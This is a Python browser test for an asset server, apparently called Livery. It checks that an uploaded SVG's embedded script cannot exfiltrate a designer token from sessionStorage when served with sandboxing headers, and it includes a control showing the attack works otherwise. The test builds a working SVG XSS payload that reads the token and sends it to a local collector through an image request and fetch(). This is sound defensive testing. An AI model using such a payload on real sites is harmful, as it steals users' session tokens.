"""Browser test: a designer's SVG cannot script the console's origin (docs/api.md, "Assets").

The attack of the security review: a designer uploads an SVG holding a <script>, and someone opens
its asset URL in the console's tab, where the designer (or admin) token sits in sessionStorage. The
script here sends whatever it can read to a collector on another port. Livery serves assets with
`Content-Security-Policy: default-src 'none'; sandbox`, `nosniff`, and SVG as an attachment, so the
collector must hear nothing, and the token stays where it was.

A control proves the probe works: the same SVG from a plain server without those headers does reach
the collector. Run by scripts/browser-tests.sh; the harness is livery_harness.py beside this file.
"""

import http.server
import threading
import time
import unittest
import urllib.request

from livery_harness import LiveryProcess, chromium, wait_for

TOKEN_KEY = "livery.designerToken"


class Collector(http.server.ThreadingHTTPServer):
    """Records the paths asked of it: what a script that ran would have sent. Serves the SVG plainly
    at /plain.svg for the control."""

    def __init__(self):
        self.hits = []
        self.svg = b""
        collector = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path == "/plain.svg":
                    body, kind = collector.svg, "image/svg+xml"
                else:
                    collector.hits.append(self.path)
                    body, kind = b"", "image/gif"
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.port = self.server_address[1]
        threading.Thread(target=self.serve_forever, daemon=True).start()


class AssetScriptTests(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.collector = Collector()
        cls.server = LiveryProcess()
        try:
            cls.driver = chromium()
        except Exception:
            cls.server.stop()
            cls.collector.shutdown()
            raise
        steal = (f"new Image().src='http://127.0.0.1:{cls.collector.port}/steal?t='"
                 f"+encodeURIComponent(sessionStorage.getItem('{TOKEN_KEY}'));"
                 f"fetch('http://127.0.0.1:{cls.collector.port}/fetched?t='"
                 f"+encodeURIComponent(sessionStorage.getItem('{TOKEN_KEY}')),{{mode:'no-cors'}});")
        cls.collector.svg = (
            '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            f'<script>{steal}</script><rect width="10" height="10"/></svg>').encode()
        request = urllib.request.Request(
            f"{cls.server.base}/v1/assets", data=cls.collector.svg, method="POST",
            headers={"Authorization": f"Bearer {cls.server.token}", "Content-Type": "image/svg+xml"})
        with urllib.request.urlopen(request) as response:
            assert response.status == 201
            cls.asset = f"{cls.server.base}/v1/assets/" + __import__("json").loads(response.read())["sha256"]

    @classmethod
    def tearDownClass(cls):
        cls.driver.quit()
        cls.server.stop()
        cls.collector.shutdown()

    def test_the_probe_reaches_the_collector_when_an_svg_is_served_plainly(self):
        """The control: without Livery's headers the same SVG runs its script."""
        before = len(self.collector.hits)
        self.driver.get(f"http://127.0.0.1:{self.collector.port}/plain.svg")
        wait_for("the plain SVG's script reports", lambda: len(self.collector.hits) > before, timeout=10)

    def test_an_svg_asset_opened_in_the_consoles_tab_runs_nothing(self):
        self.driver.get(f"{self.server.base}/")
        self.driver.execute_script(f"sessionStorage.setItem('{TOKEN_KEY}', arguments[0])", self.server.token)
        before = list(self.collector.hits)
        # As a designer would: the asset's URL typed or clicked in the console's tab.
        try:
            self.driver.get(self.asset)
        except Exception:
            pass  # a navigation that turns into a download may be reported as aborted
        time.sleep(1.5)
        # Whatever the tab shows now (the console still, the download having gone to disk), the
        # script sent nothing, and the console's origin still holds its token untouched.
        self.assertEqual(self.collector.hits, before, "the SVG's script ran")
        self.driver.get(f"{self.server.base}/")
        self.assertEqual(self.driver.execute_script(f"return sessionStorage.getItem('{TOKEN_KEY}')"), self.server.token)
        self.assertFalse(any(self.server.token in hit for hit in self.collector.hits), "the token left the browser")

    def test_the_svg_in_an_img_still_draws(self):
        """Attachment and sandbox do not break what assets are for: an <img> on the console's origin."""
        self.driver.get(f"{self.server.base}/")
        before = list(self.collector.hits)
        width = self.driver.execute_async_script(
            "const done = arguments[arguments.length - 1]; const img = new Image();"
            "img.onload = () => done(img.naturalWidth); img.onerror = () => done(-1); img.src = arguments[0];",
            self.asset)
        self.assertEqual(width, 10)
        time.sleep(0.5)
        self.assertEqual(self.collector.hits, before, "an SVG in <img> never runs script")


if __name__ == "__main__":
    unittest.main()
